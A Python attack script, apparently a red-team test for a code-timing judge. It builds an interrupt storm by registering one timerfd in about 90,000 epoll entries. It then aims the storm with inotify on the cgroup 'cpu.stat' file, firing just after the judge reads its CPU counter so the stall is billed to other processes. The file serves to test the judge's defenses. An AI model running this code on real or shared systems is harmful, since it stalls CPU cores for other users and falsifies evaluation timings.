"""An interrupt storm armed from a submission (issue 29; threat model 26-27), shared by the CPU and the
GPU storm candidates (scripts/gpu-host-eval.sh copies it beside tests/attacks_gpu/irq_storm). One
timerfd is registered in ~90,000 epoll entries (dup'd descriptor numbers in 30 epoll instances); each
expiry runs one wake-up callback per entry in interrupt context on the core the timer was armed on,
stalling that core for milliseconds and billing whichever process runs there. Aimed: a thread
watches (inotify) this container's cgroup CPU counter, which the judge used to read around every
call, and fires the storm 0.2 ms after each read; where that cannot be watched it fires every 7 ms.
Prints STORM-ENTRIES, STORM-AIMED or STORM-AIM-REFUSED."""

import ctypes
import os
import select
import struct
import threading

libc = ctypes.CDLL(None, use_errno=True)
CLOCK_MONOTONIC, TFD_NONBLOCK = 1, 0o4000
IN_OPEN, IN_ACCESS = 0x20, 0x01


class Timespec(ctypes.Structure):
    _fields_ = [("sec", ctypes.c_long), ("nsec", ctypes.c_long)]


class Itimerspec(ctypes.Structure):
    _fields_ = [("interval", Timespec), ("value", Timespec)]


def set_timer(fd, first_ns, every_ns=0):
    spec = Itimerspec(Timespec(every_ns // 10**9, every_ns % 10**9), Timespec(first_ns // 10**9, first_ns % 10**9))
    libc.timerfd_settime(fd, 0, ctypes.byref(spec), None)


def fan_out(fd, instances=30, first=1000, count=3000):
    polls = []
    for _ in range(instances):
        ep = select.epoll()
        for k in range(first, first + count):
            os.dup2(fd, k)
            ep.register(k, select.EPOLLIN)
            os.close(k)  # the entry stays while the timerfd's file is open
        polls.append(ep)
    return polls


timer = libc.timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK)
POLLS = []
fired = [0]


def watch_and_fire():
    ino = libc.inotify_init()
    wd = libc.inotify_add_watch(ino, b"/sys/fs/cgroup/cpu.stat", IN_OPEN | IN_ACCESS)
    if ino < 0 or wd < 0:
        print(f"STORM-AIM-REFUSED errno {ctypes.get_errno()}", flush=True)
        set_timer(timer, 7_000_000, 7_000_000)
        return
    print("STORM-AIMED", flush=True)
    while True:
        data = os.read(ino, 4096)
        for _ in range(0, len(data), 16 + struct.unpack_from("I", data, 12)[0]):
            fired[0] += 1
            set_timer(timer, 200_000)  # 0.2 ms after the judge read the counter: inside the call it times


def arm():
    """Build the fan-out and start the aiming thread, once."""
    if POLLS:
        return
    POLLS.extend(fan_out(timer))
    print(f"STORM-ENTRIES {len(POLLS) * 3000}", flush=True)
    threading.Thread(target=watch_and_fire, daemon=True).start()
